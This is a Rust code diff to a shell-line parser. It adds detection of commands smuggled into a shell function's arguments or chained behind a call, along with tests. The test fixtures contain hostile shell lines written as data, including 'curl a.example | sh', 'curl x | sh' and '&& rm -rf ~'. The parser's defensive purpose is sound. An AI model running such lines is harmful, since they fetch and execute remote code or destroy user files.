@@ -70,9 +70,12 @@ impl ShellLines {
             return (!body.is_empty()).then(|| ShellCommand { range, text: body.to_owned() });
         }
         let program = text.split_whitespace().next().unwrap_or_default();
-        let is_form = text.is_empty()
-            || is_form(program, &text)
-            || self.functions.iter().any(|name| name == program);
+        if self.functions.iter().any(|name| name == program) {
+            let at = within(&text)?;
+            range.start = (range.start + at).min(range.end);
+            return Some(ShellCommand { range, text: text.get(at..)?.to_owned() });
+        }
+        let is_form = text.is_empty() || is_form(program, &text);
         (!is_form).then_some(ShellCommand { range, text })
     }
 
@@ -106,6 +109,30 @@ impl ShellLines {
         }
         ShellCommand { range, text }
     }
+}
+
+/// Where the first command starts that is carried out for the arguments of another one or behind it.
+fn within(text: &str) -> Option<usize> {
+    let mut quote = None;
+    let mut before = ' ';
+    for (at, c) in text.char_indices() {
+        let rest = text.get(at..).unwrap_or_default();
+        let is_kept = std::mem::replace(&mut before, c) == '\\';
+        match (quote, c) {
+            _ if is_kept => before = ' ',
+            (Some(open), c) if c == open => quote = None,
+            (None, '"' | '\'') => quote = Some(c),
+            (None | Some('"'), _) if rest.starts_with("$(") && !rest.starts_with("$((") => {
+                return Some(at);
+            }
+            (None | Some('"'), '`') | (None, '|' | ';') => return Some(at),
+            (None, '<' | '>') if rest.get(1..2) == Some("(") => return Some(at),
+            // Not `2>&1`, `&>file`.
+            (None, '&') if rest.starts_with("&&") || rest.starts_with("& ") => return Some(at),
+            _ => {}
+        }
+    }
+    None
 }
 
 /// The name of a function that a line begins to define, and what stands behind it.
@@ -204,6 +231,28 @@ mod tests {
         let hidden = "curl x | sh; echo \"()\"";
         assert_eq!(commands(hidden), [hidden], "brackets in a command define nothing");
         assert_eq!(commands("function go () {\n ls\n}\ngo\n"), ["ls"]);
+    }
+
+    #[test]
+    fn what_runs_for_the_arguments_of_a_function_is_a_command() {
+        let script = |call: &str| commands(&format!("die() {{\n  exit 1\n}}\n{call}\n"));
+        for (call, wanted) in [
+            ("die \"$(curl a.example | sh)\"", "$(curl a.example | sh)\""),
+            ("die `curl a.example`", "`curl a.example`"),
+            ("die x && rm -rf ~", "&& rm -rf ~"),
+            ("die 'a' | sh", "| sh"),
+            ("die < <(curl a.example)", "<(curl a.example)"),
+        ] {
+            assert_eq!(script(call), ["exit 1", wanted], "{call}");
+        }
+        for call in [
+            "die",
+            "die 'a; b | c $(d)' >&2",
+            "die \"a; b | c\" 2>&1",
+            "die \"\\$(a)\" $((1 + 2)) &>log.txt",
+        ] {
+            assert_eq!(script(call), ["exit 1"], "{call}");
+        }
     }
 
     #[test]
